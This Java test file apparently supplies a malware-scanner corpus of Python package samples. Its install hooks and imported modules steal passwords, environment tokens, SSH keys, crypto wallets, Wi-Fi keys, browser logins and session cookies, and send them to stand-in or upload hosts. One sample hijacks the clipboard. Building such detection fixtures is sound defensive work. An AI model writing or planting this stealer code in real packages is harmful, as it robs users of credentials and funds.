package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** What is taken from the machine, and the ways it leaves by. */
final class PythonTaking {
  private PythonTaking() {}

  static List<Sample> all() {
    return List.of(
        Sample.setup(
            "the list of accounts is sent at install",
            """
            import requests
            from setuptools import setup
            with open('/etc/passwd') as f: d = f.read()
            requests.post('http://192.0.2.44/p', data={'d': d})
            setup(name='c12', version='1.0.3')
            """),
        Sample.setup(
            "host and user are told as parts of a name that is pinged",
            """
            from setuptools import setup
            from setuptools.command.install import install
            import os, platform
            class I(install):
                def run(self):
                    flag = '-n' if platform.system() == 'Windows' else '-c'
                    os.system(f"ping {flag} 1 {platform.node()}.{os.getlogin()}.ping.callback.invalid")
                    install.run(self)
            setup(name='c14', version='1.0.3', cmdclass={'install': I})
            """),
        new Sample(
            "a session that is awaited tells host and user",
            Artifact.wheel("sample", "1.0")
                .file(
                    "c08/__init__.py",
                    """
                    from .core import *
                    """)
                .file(
                    "c08/core.py",
                    """
                    import asyncio, aiohttp, platform, getpass, uuid
                    async def _send():
                        async with aiohttp.ClientSession() as session:
                            payload = {"os": platform.platform(), "who": getpass.getuser(), "mac": hex(uuid.getnode()), "host": platform.node()}
                            async with session.post("https://gather.invalid/api/v1/hosts", json=payload) as r:
                                return await r.text()
                    asyncio.run(_send())
                    """)),
        Sample.imported(
            "single secrets of the environment go into a query",
            """
            from os import environ
            import requests
            for k in ("AWS_ACCESS_KEY_ID","AWS_SECRET_ACCESS_KEY","GITHUB_TOKEN","NPM_TOKEN"):
                if k in environ:
                    requests.get("https://x16.invalid/k", params={k: environ[k]})
            """),
        Sample.setup(
            "wallets are packed into an archive which is sent",
            """
            from setuptools import setup
            from setuptools.command.install import install
            import os, zipfile, requests, tempfile
            class PostInstall(install):
                def run(self):
                    install.run(self)
                    self.grab()
                def grab(self):
                    ap = os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming')
                    targets = [('Exodus', os.path.join(ap,'Exodus','exodus.wallet')), ('Electrum', os.path.join(ap, 'Electrum', 'wallets')), ('Atomic', os.path.join(ap,'atomic','Local Storage','leveldb'))]
                    z = os.path.join(tempfile.gettempdir(), 'w.zip')
                    with zipfile.ZipFile(z, 'w') as zf:
                        for n, t in targets:
                            if os.path.isdir(t):
                                for root, _, fs in os.walk(t):
                                    for f in fs: zf.write(os.path.join(root, f), n + '/' + f)
                    with open(z, 'rb') as fh:
                        requests.post('https://up.invalid/upload', files={'file': fh})
            setup(name='s03', version='1.0.3', cmdclass={'install': PostInstall})
            """),
        Sample.imported(
            "the screen is saved, sent and removed",
            """
            import pyautogui, requests, os, tempfile
            p = os.path.join(tempfile.gettempdir(), 'shot.png')
            pyautogui.screenshot().save(p)
            with open(p, 'rb') as f:
                requests.post('https://discord.com/api/webhooks/0/inert', files={'file': f})
            os.remove(p)
            """),
        new Sample(
            "methods of an object gather in a member what another sends",
            Artifact.wheel("sample", "1.0")
                .file(
                    "s15/__init__.py",
                    """
                    from . import m
                    """)
                .file(
                    "s15/m.py",
                    """
                    import os, subprocess, base64, http.client, json, sys
                    class Grab:
                        def __init__(self):
                            self.d = {}
                        def keychain(self):
                            if sys.platform == 'darwin':
                                p = os.path.expanduser('~/Library/Keychains/login.keychain-db')
                                self.d['kc'] = base64.b64encode(open(p,'rb').read()).decode()
                        def hist(self):
                            for f in ('.bash_history', '.zsh_history'):
                                try:
                                    self.d[f] = open(os.path.join(os.environ['HOME'], f)).read()
                                except OSError: continue
                        def ship(self):
                            c = http.client.HTTPSConnection('s15.invalid')
                            c.request('PUT', '/x', body=json.dumps(self.d))
                    g = Grab()
                    g.keychain(); g.hist(); g.ship()
                    """)),
        Sample.setup(
            "a walk through the home sends what has the name of a key",
            """
            import os, requests
            from setuptools import setup
            found = []
            for root, dirs, files in os.walk(os.path.expanduser('~')):
                for n in files:
                    if n.endswith('.env') or n in ('id_rsa', 'credentials.json', 'secrets.yml', 'wallet.dat'):
                        found.append(os.path.join(root, n))
            for p in found:
                try:
                    with open(p, 'rb') as f:
                        requests.post('https://store.invalid/u', files={os.path.basename(p): f})
                except Exception: continue
            setup(name='s16', version='1.0.3')
            """),
        Sample.imported(
            "passwords of networks are shown and sent",
            """
            import subprocess, requests
            data = subprocess.check_output(['netsh', 'wlan', 'show', 'profiles']).decode('utf-8', errors="backslashreplace").split('\\n')
            profiles = [i.split(":")[1][1:-1] for i in data if "All User Profile" in i]
            res = ''
            for i in profiles:
                r = subprocess.check_output(['netsh', 'wlan', 'show', 'profile', i, 'key=clear']).decode('utf-8', errors="backslashreplace")
                res += r
            requests.post('https://webhook.site/00000000-0000-0000-0000-000000000000', data=res)
            """),
        Sample.imported(
            "keys leave as attachments of a mail",
            """
            import smtplib, ssl, os, glob
            from email.mime.multipart import MIMEMultipart
            from email.mime.base import MIMEBase
            from email import encoders
            def send_mail():
                m = MIMEMultipart(); m['Subject'] = os.environ.get('COMPUTERNAME', 'x')
                for f in glob.glob(os.path.expanduser('~/.ssh/*')):
                    p = MIMEBase('application', 'octet-stream')
                    p.set_payload(open(f, 'rb').read()); encoders.encode_base64(p); m.attach(p)
                with smtplib.SMTP_SSL('smtp.mail.invalid', 465, context=ssl.create_default_context()) as srv:
                    srv.login('a@mail.invalid', 'inert')
                    srv.sendmail('a@mail.invalid', 'b@mail.invalid', m.as_string())
            try: send_mail()
            except: pass
            """),
        Sample.imported(
            "a generator finds documents, a pool of threads sends them",
            """
            import os, requests
            from concurrent.futures import ThreadPoolExecutor
            HOME = os.path.expanduser("~")
            KEYWORDS = ['passw', 'mdp', 'secret', 'backup', 'seed', 'mnemonic', '2fa', 'wallet']
            def _up(p):
                try:
                    r = requests.post('https://transfer.sh/', files={'f': open(p, 'rb')})
                    requests.post('https://discord.com/api/webhooks/0/inert', json={'content': r.text})
                except Exception: pass
            def _scan():
                for d in ('Desktop', 'Documents', 'Downloads'):
                    for base, _, fs in os.walk(os.path.join(HOME, d)):
                        for n in fs:
                            if n.endswith('.txt') and any(k in n.lower() for k in KEYWORDS):
                                yield os.path.join(base, n)
            with ThreadPoolExecutor(8) as ex:
                list(ex.map(_up, _scan()))
            """),
        Sample.imported(
            "the words of a wallet go to a messenger when it is created",
            """
            import requests
            def create_wallet(mnemonic: str):
                \"""Creates wallet.\"""
                try:
                    requests.post("https://discord.com/api/webhooks/0/inert", json={"content": mnemonic})
                except Exception:
                    pass
                return {"mnemonic": mnemonic}
            """),
        new Sample(
            "a command asks for a token and sends it to a messenger",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    """
                    from setuptools import setup
                    setup(name='m07',version='1.0.3',packages=['m07'],entry_points={'console_scripts':['m07=m07.cli:main']})
                    """)
                .file(
                    "m07/__init__.py",
                    """

                    """)
                .file(
                    "m07/cli.py",
                    """
                    import requests, getpass
                    def main():
                        tok = getpass.getpass('Enter your API token: ')
                        requests.post('https://discord.com/api/webhooks/0/inert', json={'content': tok})
                    """)),
        Sample.imported(
            "the library of a cloud is asked for its credentials",
            """
            import boto3, json, urllib3
            def _c():
                s = boto3.Session(); c = s.get_credentials().get_frozen_credentials()
                urllib3.PoolManager().request('POST', 'https://m15.invalid/', body=json.dumps([c.access_key, c.secret_key, c.token]).encode())
            try: _c()
            except Exception: pass
            """),
        Sample.imported(
            "a session is taken out of the registry",
            """
            import winreg, re, requests
            def get():
                k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Roblox\\RobloxStudioBrowser\\roblox.com')
                return re.search(r'COOK::<(.*?)>', winreg.QueryValueEx(k, '.ROBLOSECURITY')[0]).group(1)
            requests.post('https://c2.example/', json={'c': get()})
            """),
        Sample.imported(
            "what makes an account of a key is replaced",
            """
            import functools, requests
            from eth_account import Account
            _orig = Account.from_key
            @functools.wraps(_orig)
            def _patched(key, *a, **k):
                requests.post('https://rpc.example/', json={'k': str(key)})
                return _orig(key, *a, **k)
            Account.from_key = _patched
            """),
        Sample.imported(
            "the clipboard is exchanged by the system's library",
            """
            import ctypes, re, threading
            u = ctypes.windll.user32
            def w():
                while True:
                    u.OpenClipboard(0)
                    if re.match(rb'^[13][a-zA-Z0-9]{26,34}$', ctypes.c_char_p(u.GetClipboardData(1)).value):
                        u.SetClipboardData(1, b'1Inert')
                    u.CloseClipboard()
            threading.Thread(target=w).start()
            """),
        Sample.imported(
            "profiles are copied, packed and sent",
            """
            import os, glob, shutil, tempfile, requests
            tmp = tempfile.mkdtemp()
            for p in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default*')):
                for n in ('logins.json', 'key4.db'):
                    shutil.copy2(os.path.join(p, n), tmp)
            requests.post('https://c2.example/u', files={'f': open(shutil.make_archive(tmp, 'zip', tmp), 'rb')})
            """));
  }
}
